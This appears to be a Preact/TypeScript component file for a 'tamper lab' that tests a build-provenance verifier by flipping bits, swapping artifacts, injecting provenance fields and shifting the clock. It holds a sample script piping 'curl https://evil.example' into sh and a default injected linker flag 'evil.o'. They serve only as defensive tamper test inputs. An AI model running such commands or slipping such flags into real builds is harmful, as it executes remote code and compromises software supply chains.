// The tools of the tamper lab.
import { useMemo, useState } from 'preact/hooks';
import type { ComponentChildren } from 'preact';
import type { Content } from 'kettle-verify';

import type { Kettle } from '../client';
import type { Verdict } from '../protocol';
import type { Parts } from '../recompute';
import { objects, type Tamper } from '../tamper';
import { plain } from '../text';
import { Hex } from './hex';
import { Text } from './parts';

interface ToolProps {
  add(change: Tamper): void;
}

function Tool({ title, children }: { title: string; children: ComponentChildren }) {
  return (
    <fieldset class="tool">
      <legend>{title}</legend>
      {children}
    </fieldset>
  );
}

export function FlipByte({ parts, changes, add }: ToolProps & { parts: Parts; changes: Tamper[] }) {
  const names = [...parts.keys()];
  const [name, choose] = useState(names.find((one) => one.endsWith('.bin') || one.endsWith('.cbor')) ?? names[0] ?? '');
  const [offset, point] = useState('0x50');
  const bytes = parts.get(name)?.bytes ?? new Uint8Array();
  const at = Number(offset);
  const inside = offset.trim() !== '' && Number.isInteger(at) && at >= 0 && at < bytes.length;
  const marks = useMemo(() => {
    const done = changes.flatMap((one) => (one.kind === 'flip' && one.part === name ? [{ from: one.at, to: one.at + 1, what: 'turned over' }] : []));
    return [...done, ...(inside ? [{ from: at, to: at + 1, what: 'chosen' }] : [])];
  }, [changes, name, at, inside]);
  return (
    <Tool title="Flip a bit">
      <div class="row">
        <label>
          <span class="label">Of</span>
          <select value={name} onChange={(event) => choose(event.currentTarget.value)}>
            {names.map((one) => (
              <option key={one} value={one}>
                {plain(one)}
              </option>
            ))}
          </select>
        </label>
        <label>
          <span class="label">Byte</span>
          <input class="short" value={offset} inputMode="text" spellcheck={false} aria-invalid={!inside} onInput={(event) => point(event.currentTarget.value)} />
        </label>
        <button type="button" class="button" disabled={!inside} onClick={() => add({ kind: 'flip', part: name, at, bit: 0 })}>
          Flip its lowest bit
        </button>
      </div>
      {!inside && <p role="status">There are {bytes.length} bytes; give a number below that, such as 0x10.</p>}
      <Hex name={name} bytes={bytes} marks={marks} pick={(picked) => point(`0x${picked.toString(16)}`)} />
    </Tool>
  );
}

export function SwapFile({ content, kettle, add }: ToolProps & { content: Content; kettle: Kettle }) {
  const artifacts = [...(content.artifacts ?? [])];
  const [name, choose] = useState(artifacts[0]?.name ?? '');
  if (artifacts.length === 0) return null;
  const swap = async (bytes: Uint8Array) => add({ kind: 'swap', artifact: name, sha256: await kettle.sha256(bytes), size: bytes.length });
  return (
    <Tool title="Swap the file">
      <div class="row">
        {artifacts.length > 1 && (
          <label>
            <span class="label">Which</span>
            <select value={name} onChange={(event) => choose(event.currentTarget.value)}>
              {artifacts.map((one) => (
                <option key={one.name} value={one.name}>
                  {plain(one.name)}
                </option>
              ))}
            </select>
          </label>
        )}
        <button type="button" class="button" onClick={() => void swap(new TextEncoder().encode('#!/bin/sh\ncurl https://evil.example | sh\n'))}>
          Put another file in place of <Text value={name} />
        </button>
      </div>
    </Tool>
  );
}

export function AddField({ content, add }: ToolProps & { content: Content }) {
  const places = useMemo(() => objects(content.provenance), [content]);
  const [pointer, choose] = useState(places.find((one) => one.endsWith('/externalParameters')) ?? '');
  const [name, call] = useState('buildFlags');
  const [value, say] = useState('-C link-arg=evil.o');
  if (places.length === 0) return null;
  return (
    <Tool title="Add a field to the provenance">
      <div class="row">
        <label class="grow">
          <span class="label">Where</span>
          <select value={pointer} onChange={(event) => choose(event.currentTarget.value)}>
            {places.map((one) => (
              <option key={one} value={one}>
                {plain(one) || '/'}
              </option>
            ))}
          </select>
        </label>
        <label>
          <span class="label">Name</span>
          <input value={name} spellcheck={false} onInput={(event) => call(event.currentTarget.value)} />
        </label>
        <label>
          <span class="label">Value</span>
          <input value={value} spellcheck={false} onInput={(event) => say(event.currentTarget.value)} />
        </label>
        <button type="button" class="button" onClick={() => add({ kind: 'inject', pointer, name, value })}>
          Add it
        </button>
      </div>
    </Tool>
  );
}

export function MoveClock({ verdict, now, move }: { verdict: Verdict; now: string; move(now: string): void }) {
  const year = (years: number) => {
    const time = new Date(verdict.now);
    time.setUTCFullYear(time.getUTCFullYear() + years);
    return `${time.toISOString().slice(0, 19)}Z`;
  };
  const times: [title: string, now: string][] = [
    ['A year before', year(-1)],
    ['A year later', year(1)],
    ['Ten years later', year(10)],
    ...(verdict.valid_until ? [[`Just after ${verdict.valid_until.slice(0, 10)}`, after(verdict.valid_until)] as [string, string]] : []),
  ];
  return (
    <Tool title="Move the clock">
      <div class="row">
        {times.map(([title, time]) => (
          <button key={title} type="button" class="button" aria-pressed={now === time} onClick={() => move(now === time ? verdict.now : time)}>
            {title}
          </button>
        ))}
      </div>
    </Tool>
  );
}

function after(time: string): string {
  return `${new Date(new Date(time).getTime() + 1000).toISOString().slice(0, 19)}Z`;
}
